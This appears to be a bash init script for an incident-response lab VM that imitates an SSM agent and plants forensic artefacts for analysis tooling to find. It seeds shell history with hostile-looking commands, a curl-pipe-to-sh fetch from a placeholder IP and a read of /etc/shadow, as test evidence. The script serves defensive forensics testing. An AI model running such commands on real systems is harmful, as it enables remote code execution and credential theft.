#!/bin/bash
# PID 1 of the lab's suspect guest (kernel argument init=/sbin/irf-lab-init). It mounts what systemd would
# on Debian (with /run noexec, as Debian's initramfs mounts it), plants what the analysis must find, then
# plays the SSM agent: it polls the lab for a command (http://10.0.2.100:8001, QEMU's guestfwd to a
# loopback port), runs it as root in its own session with the instance's network path as http_proxy
# (10.0.2.100:3128), posts its output and exit code back, and honours a cancel. Nothing else leaves the guest.
#
# Kernel arguments read: irf.shm=tmpfs|noexec (/dev/shm as systemd mounts it, or CIS-hardened).
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
readonly LAB=http://10.0.2.100:8001
mountpoint -q /proc || mount -t proc proc /proc
mountpoint -q /sys || mount -t sysfs sysfs /sys
mountpoint -q /dev || mount -t devtmpfs devtmpfs /dev
mountpoint -q /run || mount -t tmpfs -o nosuid,nodev,noexec,mode=755 tmpfs /run
mount -t securityfs securityfs /sys/kernel/security 2>/dev/null
mkdir -p /dev/shm /tmp
shm=tmpfs
read -r -a cmdline </proc/cmdline
for arg in "${cmdline[@]}"; do
    case "$arg" in irf.shm=*) shm=${arg#irf.shm=} ;; esac
done
if [[ $shm == noexec ]]; then
    mount -t tmpfs -o nosuid,nodev,noexec,mode=1777 tmpfs /dev/shm
else
    mount -t tmpfs -o nosuid,nodev,mode=1777 tmpfs /dev/shm
fi
mount -t tmpfs -o mode=1777 tmpfs /tmp
hostname irf-lab-guest
ip link set lo up
nic=""
for n in /sys/class/net/*; do
    [[ ${n##*/} == lo ]] || { nic=${n##*/}; break; }
done
ip link set "$nic" up && ip addr add 10.0.2.15/24 dev "$nic" && ip route add default via 10.0.2.2

# What the analysis must find: a process that runs from /tmp, and shells with typed history.
cp /bin/sleep /tmp/irf-lab-implant
(cd /tmp && setsid ./irf-lab-implant 1000000 </dev/null >/dev/null 2>&1 &)
HISTFILE=/dev/null HISTTIMEFORMAT='%F %T ' setsid bash -i -c 'history -s "echo IRF-LAB-HISTORY-1"; history -s "curl -s http://203.0.113.7/x.sh | sh"; sleep 1000000; true' </dev/null >/dev/null 2>&1 &
HISTFILE=/dev/null HISTTIMEFORMAT='%F %T ' setsid bash -i -c 'history -s "echo IRF-LAB-HISTORY-2"; history -s "cat /etc/shadow"; sleep 1000000; true' </dev/null >/dev/null 2>&1 &
sleep 1

post() { # path file
    curl -s --max-time 30 --data-binary @"$2" "$LAB$1" >/dev/null
}
{
    echo "uname $(uname -r)"
    echo "lockdown $(cat /sys/kernel/security/lockdown 2>/dev/null)"
    echo "tainted $(cat /proc/sys/kernel/tainted)"
    echo "mounts $(grep -E ' (/run|/dev/shm) ' /proc/mounts | tr '\n' ';')"
    grep -i 'System RAM' /proc/iomem | sed 's/^ */iomem /'
    echo "la57 $(grep -c la57 /proc/cpuinfo)"
} >/run/irf-info
until post /booted /run/irf-info; do sleep 1; done

while :; do
    code=$(curl -s --max-time 40 -o /run/irf-job.sh -D /run/irf-job.h -w '%{http_code}' "$LAB/next") || { sleep 1; continue; }
    [[ $code == 200 ]] || continue
    id=$(sed -n 's/^x-irf-job: *//Ip' /run/irf-job.h | tr -d '\r')
    [[ $id =~ ^[A-Za-z0-9-]+$ ]] || continue
    if [[ $id == poweroff ]]; then
        sync
        echo o >/proc/sysrq-trigger
        sleep 10
    fi
    setsid bash -c 'export http_proxy=http://10.0.2.100:3128 no_proxy=""; cd /root && exec bash /run/irf-job.sh' \
        </dev/null >/run/irf-job.out 2>/run/irf-job.err &
    pid=$!
    while kill -0 "$pid" 2>/dev/null; do
        if [[ $(curl -s --max-time 5 "$LAB/state/$id") == cancel ]]; then
            kill -TERM -- "-$pid" 2>/dev/null
            sleep 5
            kill -KILL -- "-$pid" 2>/dev/null
        fi
        sleep 1
    done
    wait "$pid"
    rc=$?
    post "/done/$id/stdout" /run/irf-job.out
    post "/done/$id/stderr" /run/irf-job.err
    curl -s --max-time 30 -X POST "$LAB/done/$id/exit?code=$rc" >/dev/null
done
